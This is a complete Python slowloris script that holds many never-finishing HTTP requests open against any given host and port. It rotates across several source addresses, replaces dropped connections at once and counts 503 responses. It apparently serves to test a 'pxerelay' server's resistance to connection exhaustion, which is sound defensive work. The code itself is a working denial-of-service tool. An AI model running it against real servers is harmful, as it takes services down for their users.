#!/usr/bin/env python3
"""slowloris.py - hold many slow HTTP connections open against a server.

  slowloris.py -t HOST:PORT -s SRC [-s SRC ...] [-n CONNS] [-i SECS] [-d SECS]

Keeps CONNS (30) connections open to HOST:PORT, bound in turn to each
source address SRC. Each one sends a request that never ends, one byte
every SECS (1) seconds: "GET /metrics HTTP/1.1", then a header whose value
goes on for ever. A connection the server closes or answers (a 503, say)
is replaced at once, so the server never gets a moment with fewer slow
clients than it can cope with. Runs for -d seconds (default: until
SIGTERM), then prints one line of counts:

  slowloris connects=N answered=N status_503=N closed=N errors=N \
      open_avg=F open_min=N seconds=F

open_avg / open_min: connections established and not yet closed, sampled
every 0.1 s from the first second on. Python 3 standard library only; run it in the client's
network namespace.
"""
import argparse
import errno
import selectors
import signal
import socket
import sys
import time

REQUEST_HEAD = b"GET /metrics HTTP/1.1\r\nHost: pxerelay\r\nX-Slow: "


class Conn:
    def __init__(self, src):
        self.src = src
        self.sock = None
        self.connected = False
        self.sent = 0          # bytes of the endless request sent
        self.next_send = 0.0


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-t", "--target", required=True)
    ap.add_argument("-s", "--source", action="append", required=True)
    ap.add_argument("-n", "--conns", type=int, default=30)
    ap.add_argument("-i", "--interval", type=float, default=1.0)
    ap.add_argument("-d", "--duration", type=float, default=0)
    a = ap.parse_args()
    host, port = a.target.rsplit(":", 1)
    dst = (host, int(port))

    sel = selectors.DefaultSelector()
    n = {"connects": 0, "answered": 0, "status_503": 0, "closed": 0, "errors": 0}
    samples = []
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))

    def byte_at(i):
        return REQUEST_HEAD[i:i + 1] if i < len(REQUEST_HEAD) else b"a"

    def drop(c):
        if c.sock is not None:
            try:
                sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
            c.sock.close()
        c.sock = None
        c.connected = False

    def start(c, now):
        drop(c)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((c.src, 0))
            rc = s.connect_ex(dst)
        except OSError:
            s.close()
            n["errors"] += 1
            c.next_send = now + 0.1      # try again shortly
            return
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            n["errors"] += 1
            c.next_send = now + 0.1
            return
        c.sock = s
        c.sent = 0
        c.next_send = now + a.interval   # the first byte goes once connected
        n["connects"] += 1
        sel.register(s, selectors.EVENT_WRITE, c)

    def send_byte(c, now):
        try:
            c.sock.send(byte_at(c.sent))
            c.sent += 1
            c.next_send = now + a.interval
            return True
        except OSError:
            n["closed"] += 1
            start(c, now)
            return False

    conns = [Conn(a.source[i % len(a.source)]) for i in range(a.conns)]
    t0 = time.monotonic()
    for c in conns:
        start(c, t0)
    next_sample = t0
    while not stop:
        now = time.monotonic()
        if a.duration and now - t0 >= a.duration:
            break
        if now >= next_sample:
            if now - t0 >= 1.0:              # after the first connects
                samples.append(sum(1 for c in conns if c.connected))
            next_sample = now + 0.1
        wake = min([next_sample] + [c.next_send for c in conns])
        for key, ev in sel.select(max(0.0, wake - now)):
            c = key.data
            now = time.monotonic()
            if not c.connected:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    n["errors"] += 1
                    drop(c)
                    c.next_send = now + 0.1
                    continue
                c.connected = True
                sel.modify(c.sock, selectors.EVENT_READ, c)
                send_byte(c, now)
                continue
            try:
                data = c.sock.recv(4096)
            except OSError:
                data = b""
            if data:
                n["answered"] += 1
                if data.startswith(b"HTTP/1.1 503") or data.startswith(b"HTTP/1.0 503"):
                    n["status_503"] += 1
            else:
                n["closed"] += 1
            start(c, now)                    # replaced at once
        now = time.monotonic()
        for c in conns:
            if c.sock is None and now >= c.next_send:
                start(c, now)
            elif c.connected and now >= c.next_send:
                send_byte(c, now)
    secs = time.monotonic() - t0
    avg = sum(samples) / len(samples) if samples else 0.0
    print("slowloris connects=%d answered=%d status_503=%d closed=%d errors=%d "
          "open_avg=%.1f open_min=%d seconds=%.1f" %
          (n["connects"], n["answered"], n["status_503"], n["closed"], n["errors"],
           avg, min(samples) if samples else 0, secs), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
